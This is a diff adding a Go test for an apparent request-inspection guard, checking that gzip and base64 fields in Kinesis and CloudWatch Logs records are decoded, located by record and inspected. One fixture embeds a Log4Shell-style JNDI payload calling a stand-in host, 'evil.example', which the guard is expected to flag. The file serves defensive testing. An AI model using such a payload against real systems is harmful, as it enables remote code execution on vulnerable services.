@@ -313,3 +313,63 @@ func TestGzipBase64FieldsInTurn(t *testing.T) {
 		}
 	}
 }
+
+// A field that does not decode is named in its record in the reason
+// (records[i].loc), as sent at the top level; a batch's decoded fields in
+// turn are located under their record, each with its encoding.
+func TestDecodeErrorsNameRecord(t *testing.T) {
+	g, _ := newTestGuard(t)
+	b64 := base64.StdEncoding.EncodeToString
+	good := gz(t, []byte(`{"logEvents":[{"id":"1","message":"GET /orders/42 200 12ms"}]}`))
+	bad := gz(t, []byte(`{"logEvents":[{"id":"2","message":"GET /?q=${jndi:ldap://evil.example/a}"}]}`))
+	badSum := bytes.Clone(good)
+	badSum[len(badSum)-8] ^= 1 // the trailer's CRC-32
+	cases := []struct {
+		name   string
+		inv    *Invocation
+		reason string
+		loc    string
+	}{
+		{"top level", &Invocation{Source: SourceCloudWatchLogs, Fields: []Field{{Loc: "awslogs.data", Value: "not base64!", Encoding: EncodingGzipBase64, Kind: KindJSON}}},
+			"awslogs.data is not valid base64", "awslogs.data"},
+		{"second record", &Invocation{Source: SourceKinesis, Records: []Record{
+			{ID: "r0", Fields: []Field{{Loc: "kinesis.data", Value: string(good), Encoding: EncodingGzip, Kind: KindBody}}},
+			{ID: "r1", Fields: []Field{{Loc: "kinesis.data", Value: string(badSum), Encoding: EncodingGzip, Kind: KindBody}}},
+		}}, "records[1].kinesis.data does not decompress: ", "records[1].kinesis.data"},
+		{"third record's base64", &Invocation{Source: SourceLambdaUnknown, Records: []Record{
+			{ID: "r0"}, {ID: "r1"},
+			{ID: "r2", Fields: []Field{{Loc: "awslogs.data", Value: "not base64!", Encoding: EncodingGzipBase64, Kind: KindJSON}}},
+		}}, "records[2].awslogs.data is not valid base64", "records[2].awslogs.data"},
+	}
+	for _, tc := range cases {
+		d := g.Inspect(context.Background(), tc.inv)
+		found := false
+		for _, f := range d.Findings {
+			found = found || f.Location == tc.loc && f.Category == Validation
+		}
+		if !found || !strings.Contains(d.Reason, tc.reason) {
+			t.Errorf("%s: want %q at %s: %+v", tc.name, tc.reason, tc.loc, d)
+		}
+	}
+	// records in turn: each decoded field under its record
+	var recs []Record
+	for i := range 4 {
+		data := good
+		if i == 2 {
+			data = bad
+		}
+		recs = append(recs, Record{ID: fmt.Sprint(i), Fields: []Field{{Loc: "kinesis.data", Value: string(data), Encoding: EncodingGzip, Kind: KindBody}}})
+	}
+	recs = append(recs, Record{ID: "4", Fields: []Field{{Loc: "awslogs.data", Value: b64(bad), Encoding: EncodingGzipBase64, Kind: KindJSON}}})
+	d := g.Inspect(context.Background(), &Invocation{Source: SourceKinesis, Records: recs})
+	for _, loc := range []string{"records[2].kinesis.data<gzip>.logEvents[0].message", "records[4].awslogs.data<gzip+base64>.logEvents[0].message"} {
+		if findingAt(d, loc, JNDI) == nil {
+			t.Errorf("no jndi finding at %s: %+v", loc, d)
+		}
+	}
+	for _, f := range d.Findings {
+		if f.Record != 2 && f.Record != 4 {
+			t.Errorf("a finding in record %d: %+v", f.Record, f)
+		}
+	}
+}
